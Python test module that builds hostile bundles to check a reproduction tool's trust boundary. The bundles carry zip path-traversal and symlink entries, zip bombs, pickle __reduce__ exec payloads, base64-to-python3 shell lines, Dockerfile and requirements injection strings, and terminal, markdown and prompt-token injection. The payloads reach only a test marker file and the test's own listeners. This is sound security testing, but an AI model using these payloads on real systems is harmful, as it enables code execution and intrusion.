"""Hostile bundles, derived from one real captured bundle, for the trust-boundary sweep.

A bundle comes from a stranger, so every variant here is something a stranger can send:
a broken or malicious zip, a manifest that lies, values that would break out of a
Dockerfile, shell line or markdown, pickles and modules that run code when loaded,
and asks (network, GPU, time) that only the user may grant. Variants whose content
must pass the id check are re-finalized, so that the hostile content is what gets tested.

Each payload tries to (a) create a marker file on the host at a path the test chose and
(b) connect to TCP listeners the test started on the Docker bridge gateway and on
loopback, sending the variant's name. Nothing else is ever addressed. Inside a sandbox
both attempts fail quietly; on the host the marker appears. The test judges from that.
"""

from __future__ import annotations

import base64
import copy
import io
import ipaddress
import json
import os
import stat
import textwrap
import warnings
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from reprex.bundle import MANIFEST, ZIP_EPOCH, Bundle, canonical_json

# What the sweep's base script does; its signature is json's own frames, so a variant whose
# app code runs a payload first still fails "the same way" (its replay would reproduce).
BASE_SCRIPT = '''\
import json


def parse(text, strict=True):
    return json.loads(text)


parse("{")
'''

TAIL = '\nimport json\njson.loads("{")\n'

# Expected outcomes (what the sweep asserts for every command):
REFUSED = "refused"      # a one-line error and a non-zero exit from every command, pytest item an error
CONTAINED = "contained"  # read and handled; whatever runs, runs in the sandbox
EITHER = "either"        # refused at read, or contained (both safe); never a traceback


@dataclass
class Kit:
    """What variants are made from: the captured bundle and where payloads may reach."""

    base: Bundle
    marker_dir: Path
    targets: list[tuple[str, int]]  # (ip, port) of the test's own listeners: bridge gateway, loopback

    def marker(self, tag: str) -> Path:
        return self.marker_dir / f"pwned-{tag}"

    def payload(self, tag: str) -> str:
        """Python that leaves evidence wherever it runs, never raising."""
        return textwrap.dedent(f"""\
            def _reprex_hostile_payload():
                import socket
                try:
                    with open({str(self.marker(tag))!r}, "w") as fh:
                        fh.write({tag!r})
                except OSError:
                    pass
                for host, port in {self.targets!r}:
                    try:
                        with socket.create_connection((host, port), timeout=1) as s:
                            s.sendall({tag.encode()!r} + b"\\n")
                    except OSError:
                        pass
            _reprex_hostile_payload()
            """)

    def shell(self, tag: str) -> str:
        """A shell line with the same effect (for Dockerfile/shell injection): base64 keeps
        the payload free of quotes, so only the injected separators matter."""
        code = base64.b64encode(self.payload(tag).encode()).decode()
        return f"touch {self.marker(tag)}; echo {code} | base64 -d | python3"

    def dotless_connect(self, tag: str) -> str:
        """A short shell line without dots or slashes that connects to the gateway listener and
        sends the tag: it survives a version string cut at its second dot and used as a file name."""
        ip, port = self.targets[0]
        number = int(ipaddress.ip_address(ip))  # 172.17.0.1 -> 2886795265: no dots
        return (f"python3 -c \"import socket as s;c=getattr(s,'create_connection')(('{number}',{port}),3);"
                f"getattr(c,'send')(b'{tag}')\"")

    def script(self, tag: str) -> str:
        """The app script with the payload first; it then fails like the base bundle."""
        return self.payload(tag) + TAIL


@dataclass
class Variant:
    name: str
    kind: str
    expect: str
    build: Callable[[Kit, Path], Path]
    why: str = ""
    tags: set = field(default_factory=set)  # extra checks: "gh", "term", "network", "timeout", "pytest-field"


# -- building blocks ------------------------------------------------------------------------

def derive(kit: Kit, tag: str, *, manifest: Callable[[dict], None] | None = None,
           files: Callable[[dict], None] | None = None, payload: bool = True, finalize: bool | str = True) -> Bundle:
    """The base bundle with the payload as its app, then `manifest`/`files` edits applied."""
    m = copy.deepcopy(kit.base.manifest)
    f = dict(kit.base.files)
    if payload:
        f["files/app.py"] = kit.script(tag).encode()
    if manifest:
        manifest(m)
    if files:
        files(f)
    b = Bundle(manifest=m, files=f)
    if finalize == "id":  # the id of the content, without the writer's own checks
        m["id"] = b.content_id()
        return b
    return b.finalize() if finalize else b


def write(bundle: Bundle, out: Path, name: str) -> Path:
    return bundle.write(out / f"{name}.reprex.zip")


def raw_zip(entries: list[tuple[str, bytes]], *, links: tuple[str, ...] = (), stored: bool = False) -> bytes:
    """A zip with exactly these entries (duplicates, odd names, links: whatever is asked)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=ZIP_EPOCH)
            info.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
            info.create_system = 3
            mode = stat.S_IFLNK | 0o777 if name in links else stat.S_IFREG | 0o644
            info.external_attr = mode << 16
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")  # "Duplicate name" is the point
                zf.writestr(info, data)
    return buf.getvalue()


def entries_of(bundle: Bundle) -> list[tuple[str, bytes]]:
    return sorted(bundle.entries().items())


def deep(n: int) -> str:
    return "[" * n + "]" * n


def fix_json(f: dict, name: str, edit: Callable[[dict], None]) -> None:
    data = json.loads(f[name])
    edit(data)
    f[name] = json.dumps(data).encode()


def _exc(run: dict) -> dict:
    return run["exception"]


def with_frame(frame: dict) -> Callable[[dict], None]:
    """run.json edit: `frame` becomes the innermost recorded frame (extract's first candidate)."""
    def edit(run):
        _exc(run)["frames"].append(frame)
    return lambda f: fix_json(f, "run.json", edit)


def pickle_exec(code: str) -> str:
    """A protocol-0 pickle whose loading calls builtins.exec(code): the classic __reduce__ payload."""
    blob = b"cbuiltins\nexec\n(" + b"V" + code.replace("\\", "\\u005c").replace("\n", "\\u000a").encode() + b"\ntR."
    return base64.b64encode(blob).decode()


def set_path(m: dict, path: str, value) -> None:
    """m["a"]["b"] = value for path "a.b"."""
    *parents, last = path.split(".")
    node = m
    for key in parents:
        node = node[key]
    node[last] = value


# -- variants --------------------------------------------------------------------------------

def variants() -> list[Variant]:
    out: list[Variant] = []

    def add(name, kind, expect, why="", tags=()):
        def deco(fn):
            out.append(Variant(name, kind, expect, fn, why, set(tags)))
            return fn
        return deco

    # zip structure: refused before anything is written
    @add("zip-absolute-path", "zip", REFUSED, "an entry named with an absolute path (the host marker)")
    def _(kit, out_dir):
        entries = entries_of(derive(kit, "zip-absolute-path"))
        entries.append((str(kit.marker("zip-absolute-path")), b"x"))
        return _raw(out_dir, "zip-absolute-path", raw_zip(entries))

    @add("zip-dotdot", "zip", REFUSED, "files/../../ climbing out of the work dir")
    def _(kit, out_dir):
        entries = entries_of(derive(kit, "zip-dotdot")) + [("files/../../pwned", b"x")]
        return _raw(out_dir, "zip-dotdot", raw_zip(entries))

    @add("zip-dotdot-deep", "zip", REFUSED, "../ x 30 to the host marker from any temp dir")
    def _(kit, out_dir):
        name = "../" * 30 + str(kit.marker("zip-dotdot-deep")).lstrip("/")
        return _raw(out_dir, "zip-dotdot-deep", raw_zip(entries_of(derive(kit, "zip-dotdot-deep")) + [(name, b"x")]))

    @add("zip-backslash", "zip", REFUSED, "a Windows-style ..\\ name")
    def _(kit, out_dir):
        entries = entries_of(derive(kit, "zip-backslash")) + [("files\\..\\..\\pwned", b"x")]
        return _raw(out_dir, "zip-backslash", raw_zip(entries))

    @add("zip-symlink", "zip", REFUSED, "a symlink entry pointing at the host marker")
    def _(kit, out_dir):
        entries = entries_of(derive(kit, "zip-symlink")) + [("files/link", str(kit.marker("zip-symlink")).encode())]
        return _raw(out_dir, "zip-symlink", raw_zip(entries, links=("files/link",)))

    @add("zip-symlink-entry", "zip", REFUSED, "the entry script itself is a symlink to /etc/passwd")
    def _(kit, out_dir):
        entries = [(n, d) for n, d in entries_of(derive(kit, "zip-symlink-entry")) if n != "files/app.py"]
        entries.append(("files/app.py", b"/etc/passwd"))
        return _raw(out_dir, "zip-symlink-entry", raw_zip(entries, links=("files/app.py",)))

    @add("zip-duplicate-manifest", "zip", REFUSED, "two reprex.json entries: which one is read?")
    def _(kit, out_dir):
        b = derive(kit, "zip-duplicate-manifest")
        other = copy.deepcopy(b.manifest)
        other["network"] = True
        return _raw(out_dir, "zip-duplicate-manifest",
                    raw_zip(entries_of(b) + [(MANIFEST, canonical_json(other))]))

    @add("zip-duplicate-file", "zip", REFUSED, "files/app.py twice, the second one the payload")
    def _(kit, out_dir):
        b = derive(kit, "zip-duplicate-file", payload=False)
        return _raw(out_dir, "zip-duplicate-file",
                    raw_zip(entries_of(b) + [("files/app.py", kit.script("zip-duplicate-file").encode())]))

    @add("zip-nul-name", "zip", REFUSED, "a NUL byte in an entry name")
    def _(kit, out_dir):
        return _raw(out_dir, "zip-nul-name", raw_zip(entries_of(derive(kit, "zip-nul-name")) + [("files/a\x00b", b"x")]))

    @add("zip-bomb-ratio", "zip", REFUSED, "one 40 MiB entry of zeros (ratio ~1000)")
    def _(kit, out_dir):
        entries = entries_of(derive(kit, "zip-bomb-ratio")) + [("files/zeros.bin", bytes(40 * 1024 * 1024))]
        return _raw(out_dir, "zip-bomb-ratio", raw_zip(entries))

    @add("zip-many-entries", "zip", REFUSED, "6,000 tiny entries")
    def _(kit, out_dir):
        entries = entries_of(derive(kit, "zip-many-entries")) + [(f"files/d/{i}.txt", b"x") for i in range(6000)]
        return _raw(out_dir, "zip-many-entries", raw_zip(entries))

    @add("zip-250x1mib", "zip", REFUSED, "250 entries of exactly 1 MiB (each under the ratio check): 250 MB out of ~300 KB")
    def _(kit, out_dir):
        def files(f):
            for i in range(250):
                f[f"files/blob/{i:03d}.bin"] = bytes(1024 * 1024)
        return write(derive(kit, "zip-250x1mib", files=files), out_dir, "zip-250x1mib")

    @add("zip-not-a-zip", "zip", REFUSED, "random bytes named .reprex.zip")
    def _(kit, out_dir):
        return _raw(out_dir, "zip-not-a-zip", os.urandom(4096))

    @add("zip-truncated", "zip", REFUSED, "the first half of a real bundle")
    def _(kit, out_dir):
        data = derive(kit, "zip-truncated").to_zip_bytes()
        return _raw(out_dir, "zip-truncated", data[: len(data) // 2])

    @add("zip-empty-file", "zip", REFUSED, "zero bytes")
    def _(kit, out_dir):
        return _raw(out_dir, "zip-empty-file", b"")

    @add("zip-no-manifest", "zip", REFUSED, "a zip without reprex.json")
    def _(kit, out_dir):
        return _raw(out_dir, "zip-no-manifest",
                    raw_zip([e for e in entries_of(derive(kit, "zip-no-manifest")) if e[0] != MANIFEST]))

    @add("zip-encrypted-flag", "zip", REFUSED, "every entry flagged encrypted")
    def _(kit, out_dir):
        data = bytearray(raw_zip(entries_of(derive(kit, "zip-encrypted-flag"))))
        for magic, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # local headers, central directory
            i = data.find(magic)
            while i >= 0:
                data[i + at] |= 0x1
                i = data.find(magic, i + 4)
        return _raw(out_dir, "zip-encrypted-flag", bytes(data))

    @add("zip-bad-crc", "zip", REFUSED, "a corrupted stored entry (CRC mismatch)")
    def _(kit, out_dir):
        data = bytearray(raw_zip(entries_of(derive(kit, "zip-bad-crc")), stored=True))
        at = data.find(b"_reprex_hostile_payload")
        data[at] ^= 0x20
        return _raw(out_dir, "zip-bad-crc", bytes(data))

    @add("dir-symlink", "zip", REFUSED, "a directory bundle holding a symlink to the host marker")
    def _(kit, out_dir):
        path = derive(kit, "dir-symlink").write(out_dir / "dir-symlink")
        os.symlink(kit.marker("dir-symlink"), path / "files" / "link")
        return path

    @add("dir-conftest", "zip", CONTAINED, "a directory bundle shipping conftest.py, test_*.py and pytest.ini files "
         "that pytest would import", tags=("pytest-dir",))
    def _(kit, out_dir):
        code = kit.payload("dir-conftest").encode()

        def files(f):
            f["conftest.py"] = code
            f["files/conftest.py"] = code
            f["files/test_evil.py"] = code + b"\ndef test_evil():\n    pass\n"
            f["files/__init__.py"] = code
        return derive(kit, "dir-conftest", files=files).write(out_dir / "dir-conftest")

    # manifest content: refused by the validating loader
    @add("manifest-deep-nesting", "manifest", REFUSED, "reprex.json nested 100,000 deep (RecursionError)")
    def _(kit, out_dir):
        b = derive(kit, "manifest-deep-nesting")
        text = canonical_json(b.manifest).decode().replace('"name": ', f'"junk": {deep(100000)}, "name": ', 1)
        return _raw(out_dir, "manifest-deep-nesting", raw_zip([(MANIFEST, text.encode()), *b.files.items()]))

    for name in ("run.json", "environment.json"):
        slug = name.split(".")[0]

        @add(f"{slug}-deep-nesting", "manifest", REFUSED, f"{name} nested 100,000 deep, id re-finalized")
        def _(kit, out_dir, name=name, slug=slug):
            def files(f):
                f[name] = ('{"exception": ' + deep(100000) + "}").encode()
            return write(derive(kit, f"{slug}-deep-nesting", files=files), out_dir, f"{slug}-deep-nesting")

        @add(f"{slug}-invalid-json", "manifest", REFUSED, f"{name} is not JSON, id re-finalized")
        def _(kit, out_dir, name=name, slug=slug):
            def files(f):
                f[name] = b"{not json"
            return write(derive(kit, f"{slug}-invalid-json", files=files), out_dir, f"{slug}-invalid-json")

        @add(f"{slug}-wrong-types", "manifest", EITHER, f"{name} with every field the wrong type")
        def _(kit, out_dir, name=name, slug=slug):
            def files(f):
                f[name] = json.dumps({"exception": "x", "outcome": [1], "output_tail": 5, "env": 3,
                                      "python": "3.11", "packages": {"value": 7}}).encode()
            return write(derive(kit, f"{slug}-wrong-types", files=files), out_dir, f"{slug}-wrong-types")

    def manifest_raw(name, why, text_of):
        @add(name, "manifest", REFUSED, why)
        def _(kit, out_dir):
            b = derive(kit, name)
            return _raw(out_dir, name, raw_zip([(MANIFEST, text_of(b)), *b.files.items()]))

    manifest_raw("manifest-a-list", "reprex.json is a JSON list", lambda b: b"[1, 2]")
    manifest_raw("manifest-not-json", "reprex.json is not JSON", lambda b: b"{'schema': 1")
    manifest_raw("manifest-not-utf8", "reprex.json is not UTF-8", lambda b: b"\xff\xfe{\x00}\x00")
    manifest_raw("manifest-huge-number", "a 100,000-digit integer (int parsing limit)",
                 lambda b: canonical_json(b.manifest).replace(b'"schema": 1', b'"schema": 1' + b"0" * 100000))

    def manifest_edit(name, expect, why, edit, tags=(), finalize=True):
        @add(name, "manifest", expect, why, tags)
        def _(kit, out_dir):
            return write(derive(kit, name, manifest=edit, finalize=finalize), out_dir, name)

    manifest_edit("manifest-schema-2", REFUSED, "unknown schema version", lambda m: m.update(schema=2), finalize="id")
    manifest_edit("manifest-schema-missing", REFUSED, "no schema key", lambda m: m.pop("schema"), finalize="id")
    manifest_edit("manifest-name-int", REFUSED, "name is a number", lambda m: m.update(name=123))
    manifest_edit("manifest-argv-string", REFUSED, "entry.argv is a string", lambda m: m["entry"].update(argv="python app.py"))
    manifest_edit("manifest-files-string", EITHER, "files (an extra key the CLI reads) is a string",
                  lambda m: m.update(files="oops"))
    manifest_edit("manifest-skipped-wrong", EITHER, "files.skipped entries without path/size/reason",
                  lambda m: m.update(files={"skipped": [{"x": 1}, "str", 5], "copied": 3}))
    manifest_edit("manifest-pins-list", EITHER, "pins is a list", lambda m: m.update(pins=[1, 2]))
    manifest_edit("manifest-redaction-types", REFUSED, "redactions with a string count",
                  lambda m: m.update(redactions=[{"kind": "x", "where": "y", "count": "many"}]))
    manifest_edit("manifest-signature-frames-str", REFUSED, "expect.signature.frames is a string",
                  lambda m: m["expect"]["signature"].update(frames="abc"))
    manifest_edit("manifest-expect-exception-str", EITHER, "expect.exception is an unexpected shape",
                  lambda m: m["expect"].update(exception={"type": 5, "message": ["x"]}))
    manifest_edit("manifest-gpu-wrong", REFUSED, "gpu.count is a string",
                  lambda m: m.update(gpu={"count": "all", "models": [], "driver": None,
                                          "compute_capabilities": [], "cuda": None}))
    manifest_edit("manifest-huge-name", REFUSED, "a 5 MB name", lambda m: m.update(name="A" * 5_000_000))
    manifest_edit("manifest-huge-message", CONTAINED, "a 2 MB failure message",
                  lambda m: m["expect"]["exception"].update(message=os.urandom(1_000_000).hex()), tags=("gh",))
    manifest_edit("manifest-bad-id", REFUSED, "id is not a sha256", lambda m: m.update(id="x"), finalize=False)

    @add("tampered-manifest", "manifest", REFUSED, "name changed after the id was computed (finding 9)")
    def _(kit, out_dir):
        b = derive(kit, "tampered-manifest")
        b.manifest["name"] = "tampered"
        return write(b, out_dir, "tampered-manifest")

    @add("tampered-file", "manifest", REFUSED, "files/app.py swapped for the payload after the id was computed")
    def _(kit, out_dir):
        b = derive(kit, "tampered-file", payload=False)
        b.files["files/app.py"] = kit.script("tampered-file").encode()
        return write(b, out_dir, "tampered-file")

    # injection into every field that reaches a Dockerfile, shell line, label or env var
    def inject(name, why, path, value_of, expect=EITHER):
        @add(name, "inject", expect, why)
        def _(kit, out_dir):
            return write(derive(kit, name, manifest=lambda m: set_path(m, path, value_of(kit, name))), out_dir, name)

    # closes the template's `if [ "$v" != "X" ]` cleanly, adds a RUN step, and reopens a quote for
    # the rest of the line: on d24dc4d the payload ran as root, with network, during the build
    inject("pyver-newline-run", "python.version with a newline and a RUN line", "python.version",
           lambda k, t: f'3.11" ]; then true; fi\nRUN {k.dotless_connect(t)}\nRUN if [ "x')
    inject("pyver-shell", "python.version with ; and a command", "python.version",
           lambda k, t: f"3.11; {k.shell(t)}; #")
    inject("pyver-subst", "python.version with $(...)", "python.version", lambda k, t: f"3.11$({k.shell(t)})")
    inject("pyver-quote", "python.version closing a quote", "python.version", lambda k, t: f'3.11"; {k.shell(t)}; echo "')
    inject("pyver-continuation", "python.version with a line continuation", "python.version",
           lambda k, t: f"3.11 \\\n && {k.shell(t)}")
    inject("pyver-image-tag", "python.version that picks another base image", "python.version",
           lambda k, t: "3.11-slim@sha256:" + "0" * 64 + " AS x\nFROM busybox")
    inject("machine-newline-run", "platform.machine with a RUN line", "platform.machine",
           lambda k, t: f"x86_64\nRUN {k.shell(t)}")
    inject("system-newline-run", "platform.system with a RUN line", "platform.system",
           lambda k, t: f"Linux\nRUN {k.shell(t)}")
    inject("impl-newline-run", "python.implementation with a RUN line", "python.implementation",
           lambda k, t: f"CPython\nRUN {k.shell(t)}")
    inject("name-newline-run", "name (a label) with a RUN line", "name", lambda k, t: f"app\nRUN touch {k.marker(t)}")
    inject("name-label-quote", "name closing the label's quote", "name", lambda k, t: 'app" org.reprex.keep="1" x="')
    inject("tool-version-run", "tool.version with a RUN line", "tool.version", lambda k, t: f"0.1\nRUN {k.shell(t)}")
    inject("created-run", "created with a RUN line", "created", lambda k, t: f"2026\nRUN {k.shell(t)}")
    inject("signature-id-run", "expect.signature.id with a RUN line", "expect.signature.id",
           lambda k, t: f"abc\nRUN {k.shell(t)}")
    inject("cwd-run", "entry.cwd with a RUN line and ..", "entry.cwd", lambda k, t: f"/../../\nRUN {k.shell(t)}")
    inject("gpu-cuda-run", "gpu.cuda and models with RUN lines (a GPU ask, too)", "gpu",
           lambda k, t: {"count": 1, "models": [f"A100\nRUN {k.shell(t)}"], "driver": f"1\nRUN {k.shell(t)}",
                         "compute_capabilities": ["8.0"], "cuda": f"12.1\nRUN {k.shell(t)}"})

    def argv_edit(name, why, argv, extra=None):
        @add(name, "inject", CONTAINED, why)
        def _(kit, out_dir):
            def edit(m):
                m["entry"]["argv"] = ["python", *argv(kit, name)]
                m["entry"]["python_args"] = argv(kit, name)
                if extra:
                    extra(kit, name, m)
            return write(derive(kit, name, manifest=edit), out_dir, name)

    argv_edit("argv-shell", "argv items with ;, $(...) and backticks",
              lambda k, t: [f"app.py; {k.shell(t)}", f"$({k.shell(t)})", f"`{k.shell(t)}`"])
    argv_edit("argv-dash-c", "python_args running -c code (in the sandbox: contained)",
              lambda k, t: ["-c", k.script(t)])
    argv_edit("argv-abs-script", "python_args naming a host file", lambda k, t: ["/etc/passwd"])
    argv_edit("pythonpath-escape", "entry.pythonpath outside the work dir", lambda k, t: ["app.py"],
              extra=lambda k, t, m: m["entry"].update(pythonpath=["/", "../..", "/tmp"]))

    @add("env-values", "inject", CONTAINED, "recorded environment values: newlines, '=', LD_PRELOAD, BASH_ENV")
    def _(kit, out_dir):
        def edit_env(env):
            values = env.setdefault("env", {}).setdefault("value", {}).setdefault("values", {})
            values.update({"LD_PRELOAD": "/tmp/evil.so", "BASH_ENV": "/tmp/evil.sh", "A=B": "c", "X\nY": "z",
                           "PYTHONINSPECT": "1", "PYTHONSTARTUP": "/tmp/evil.py", "OK_VAR": "line1\nRUN evil"})
        return write(derive(kit, "env-values", files=lambda f: fix_json(f, "environment.json", edit_env)),
                     out_dir, "env-values")

    # requirement lines
    def reqs(name, why, lines_of, expect=CONTAINED):
        @add(name, "requirements", expect, why)
        def _(kit, out_dir):
            text = lines_of(kit, name)
            return write(derive(kit, name, files=lambda f: f.update({"requirements.txt": text.encode()})), out_dir, name)

    reqs("req-semicolon", "a pin followed by ; and a command", lambda k, t: f"six==1.16.0; {k.shell(t)}\n")
    reqs("req-subst", "a name made of $(...)", lambda k, t: f"$({k.shell(t)})==1.0\n")
    reqs("req-backtick", "a name made of backticks", lambda k, t: f"`{k.shell(t)}`==1.0\n")
    reqs("req-index-url", "--index-url at the test's listener", lambda k, t: f"--index-url http://{k.targets[0][0]}:{k.targets[0][1]}/simple\nsix==1.16.0\n")
    reqs("req-extra-index-url", "--extra-index-url at loopback", lambda k, t: f"--extra-index-url http://{k.targets[-1][0]}:{k.targets[-1][1]}/simple\nsix==1.16.0\n")
    reqs("req-find-links", "--find-links at loopback", lambda k, t: f"--find-links http://{k.targets[-1][0]}:{k.targets[-1][1]}/\nsix==1.16.0\n")
    reqs("req-editable", "-e of a host path whose setup.py is the payload", lambda k, t: f"-e {k.marker_dir / 'evilproj'}\n")
    reqs("req-file-url", "a file:// direct reference to a project whose setup.py is the payload",
         lambda k, t: f"evilproj @ file://{k.marker_dir / 'evilproj'}\n")
    reqs("req-http-url", "an http:// direct reference at the bridge gateway listener",
         lambda k, t: f"evilproj @ http://{k.targets[0][0]}:{k.targets[0][1]}/evilproj-1.0.tar.gz\n")
    reqs("req-https-loopback", "an https:// direct reference at a loopback listener (host-side fetch)",
         lambda k, t: f"evilproj @ https://{k.targets[-1][0]}:{k.targets[-1][1]}/evilproj-1.0-py3-none-any.whl\n")
    reqs("req-git-https-loopback", "a git+https:// reference at a loopback listener (host-side clone)",
         lambda k, t: f"evilproj @ git+https://{k.targets[-1][0]}:{k.targets[-1][1]}/evil.git\n")
    reqs("req-git-url", "a git+http:// reference at loopback",
         lambda k, t: f"evilproj @ git+http://{k.targets[-1][0]}:{k.targets[-1][1]}/evil.git\n")
    reqs("req-nested-file", "-r and -c of host files", lambda k, t: "-r /etc/passwd\n-c /etc/hostname\n")
    reqs("req-global-option", "a pin with --global-option / --config-settings",
         lambda k, t: "six==1.16.0 --global-option=--evil --config-settings=x=y\n")
    reqs("req-3000-pins", "3,000 pins", lambda k, t: "".join(f"pkg{i:04d}==1.0\n" for i in range(3000)))
    reqs("req-huge-line", "one 1 MB requirement line", lambda k, t: "six==" + "1" * 1_000_000 + "\n")

    # extract: pickles, imports and host files named by the bundle
    @add("extract-pickle-reduce", "extract", CONTAINED, "a recorded argument pickle whose __reduce__ runs the payload")
    def _(kit, out_dir):
        frame = {"kind": "package", "module": "json", "qualname": "loads", "function": "loads", "loc": "json/__init__.py",
                 "file": "/nonexistent/json/__init__.py", "line": 1, "args": ["s"],
                 "argspec": {"positional": 1, "varargs": None, "varkw": None},
                 "arg_values": {"s": {"type": "evil.Obj", "repr": "<evil.Obj object>",
                                      "pickle": pickle_exec(kit.payload("extract-pickle-reduce"))}}}
        return write(derive(kit, "extract-pickle-reduce", files=with_frame(frame)), out_dir, "extract-pickle-reduce")

    @add("extract-bundled-module", "extract", CONTAINED, "a package frame naming a module shipped under files/ "
         "whose import runs the payload")
    def _(kit, out_dir):
        frame = {"kind": "package", "module": "evilmod", "qualname": "run", "function": "run", "loc": "evilmod.py",
                 "file": "/nonexistent/evilmod.py", "line": 1, "args": ["x"],
                 "argspec": {"positional": 1, "varargs": None, "varkw": None},
                 "arg_values": {"x": {"type": "builtins.int", "repr": "1"}}}

        def files(f):
            with_frame(frame)(f)
            f["files/evilmod.py"] = (kit.payload("extract-bundled-module") + "\ndef run(x):\n    raise ValueError(x)\n").encode()
        return write(derive(kit, "extract-bundled-module", files=files), out_dir, "extract-bundled-module")

    @add("extract-os-system", "extract", CONTAINED, "a 'package' frame os.system with a literal argument: "
         "the extracted call itself is the payload")
    def _(kit, out_dir):
        frame = {"kind": "package", "module": "os", "qualname": "system", "function": "system", "loc": "os.py",
                 "file": "/nonexistent/os.py", "line": 1, "args": ["command"],
                 "argspec": {"positional": 1, "varargs": None, "varkw": None},
                 "arg_values": {"command": {"type": "builtins.str", "repr": repr(kit.shell("extract-os-system"))}}}
        return write(derive(kit, "extract-os-system", files=with_frame(frame)), out_dir, "extract-os-system")

    @add("extract-host-source", "extract", CONTAINED, "a frame whose source file is a host file (it must not be "
         "read into the result)", tags=("host-source",))
    def _(kit, out_dir):
        frame = {"kind": "package", "module": "hostsecret", "qualname": "leak", "function": "leak",
                 "loc": "hostsecret.py", "file": str(kit.marker_dir / "hostsecret.py"), "line": 1, "args": ["x"],
                 "argspec": {"positional": 1, "varargs": None, "varkw": None},
                 "arg_values": {"x": {"type": "builtins.int", "repr": "1"}}}
        return write(derive(kit, "extract-host-source", files=with_frame(frame)), out_dir, "extract-host-source")

    @add("extract-qualname-code", "extract", CONTAINED, "module/qualname carrying code into the generated script")
    def _(kit, out_dir):
        code = kit.payload("extract-qualname-code").replace("\n", "; ")
        frame = {"kind": "package", "module": f"json import loads\nexec({code!r})\nfrom json", "qualname": "loads",
                 "function": "loads", "loc": "json/__init__.py", "file": "/nonexistent/x.py", "line": 1, "args": ["s"],
                 "argspec": {"positional": 1, "varargs": None, "varkw": None},
                 "arg_values": {"s": {"type": "builtins.str", "repr": "'{'"}}}
        return write(derive(kit, "extract-qualname-code", files=with_frame(frame)), out_dir, "extract-qualname-code")

    # output injection: markdown/HTML for gh, control sequences for terminals, no rich markup
    def hostile_text(kit: Kit, tag: str) -> str:
        gw, port = kit.targets[0]
        # the first line carries everything (a summary may show only that), the rest breaks fences
        return ("[/INST] [bold red]markup[/bold red] [link=http://%s:%d]x[/link] "
                "\x1b]0;PWNED-TITLE\x07\x1b]8;;http://%s:%d/\x1b\\click\x1b]8;;\x1b\\\x1b[2J\x1b[31mred\x9b2J "
                "</details></details> <img src=\"http://%s:%d/pixel.png\"> ![x](http://%s:%d/p.png) "
                "@octocat cc @org/team <!-- %s -->\n\n# Pwned\n```\n</details>\n<script>alert(1)</script>\n```\n"
                "~~~\n</details>\n" % (gw, port, gw, port, gw, port, gw, port, tag))

    def out_edit(name, why, edit, expect=CONTAINED):
        @add(name, "output", expect, why, tags=("gh", "term"))
        def _(kit, out_dir):
            text = hostile_text(kit, name)
            return write(derive(kit, name, manifest=lambda m: edit(m, text, None),
                                files=lambda f: edit(None, text, f)), out_dir, name)

    def m_only(fn):
        return lambda m, text, f: fn(m, text) if m is not None else None

    def f_only(fn):
        return lambda m, text, f: fn(f, text) if f is not None else None

    out_edit("out-message", "the failure message", m_only(lambda m, t: m["expect"]["exception"].update(message=t)))
    out_edit("out-exception-type", "the exception type and signature types",
             m_only(lambda m, t: (m["expect"]["exception"].update(type=t),
                                  m["expect"]["signature"].update(types=[t]))))
    out_edit("out-name", "the bundle name", m_only(lambda m, t: m.update(name=t[:200])), expect=EITHER)
    out_edit("out-argv", "argv items", m_only(lambda m, t: m["entry"].update(argv=["python", t, "--x=" + t])))
    out_edit("out-frames", "signature frames", m_only(lambda m, t: m["expect"]["signature"].update(frames=[t, t])))
    out_edit("out-libc", "platform.libc / distro", m_only(lambda m, t: m["platform"].update(libc=t, distro=t)),
             expect=EITHER)
    out_edit("out-skipped", "files.skipped paths and reasons",
             m_only(lambda m, t: m.update(files={"copied": [], "skipped": [{"path": t, "size": 1, "reason": t}],
                                                 "total_bytes": 0})))
    out_edit("out-redactions", "redaction kinds and places",
             m_only(lambda m, t: m.update(redactions=[{"kind": t, "where": t, "count": 1}])))
    out_edit("out-traceback", "traceback.txt", f_only(lambda f, t: f.update({"traceback.txt": t.encode()})))
    out_edit("out-run-output", "run.json output tail and frame sources",
             f_only(lambda f, t: fix_json(f, "run.json", lambda r: (
                 r.update(output_tail=[["stderr", t], ["stdout", t]]),
                 [fr.update(source=t, qualname=t[:80]) for fr in r["exception"]["frames"]]))))
    out_edit("out-requirements", "requirement comments and the pins table",
             f_only(lambda f, t: f.update({"requirements.txt": ("# " + t.replace("\n", " ") + "\n").encode()})))

    # asks: network, GPU, time, the plugin's manifest field
    @add("ask-network", "ask", CONTAINED, "network: true (a bundle asks; only the user grants)", tags=("network",))
    def _(kit, out_dir):
        return write(derive(kit, "ask-network", manifest=lambda m: m.update(network=True)), out_dir, "ask-network")

    @add("ask-gpu", "ask", CONTAINED, "a GPU ask on a host without one")
    def _(kit, out_dir):
        gpu = {"count": 8, "models": ["NVIDIA H100"], "driver": "550.54", "compute_capabilities": ["9.0"],
               "cuda": "12.4"}
        return write(derive(kit, "ask-gpu", manifest=lambda m: m.update(gpu=gpu)), out_dir, "ask-gpu")

    @add("ask-huge-timeout", "ask", CONTAINED, "a captured hang of 10^9 s and a pytest timeout of 10^9 s; the repro "
         "sleeps forever", tags=("timeout",))
    def _(kit, out_dir):
        def edit(m):
            m["expect"]["outcome"] = "timeout"
            m["pytest"] = {"timeout": 1e9}

        def files(f):
            f["files/app.py"] = (kit.payload("ask-huge-timeout") + "\nimport time\nwhile True:\n    time.sleep(1)\n").encode()
            fix_json(f, "run.json", lambda r: r["outcome"].update(duration_s=1e9) if isinstance(r.get("outcome"), dict)
                     else r.update(outcome={"duration_s": 1e9}))
        return write(derive(kit, "ask-huge-timeout", manifest=edit, files=files, payload=False), out_dir,
                     "ask-huge-timeout")

    @add("pytest-field-isolation", "ask", CONTAINED, "manifest field pytest picks the local backend, a network, "
         "an image, --with, keep", tags=("pytest-field",))
    def _(kit, out_dir):
        return write(derive(kit, "pytest-field-isolation", manifest=lambda m: m.update(pytest={
            "backend": "local", "network": "bridge", "image": "busybox", "with": [str(kit.marker_dir / "evilproj")],
            "keep": True, "gpus": "all"})), out_dir, "pytest-field-isolation")

    @add("pytest-field-runs", "ask", CONTAINED, "manifest field pytest asks for 100,000 runs", tags=("pytest-field",))
    def _(kit, out_dir):
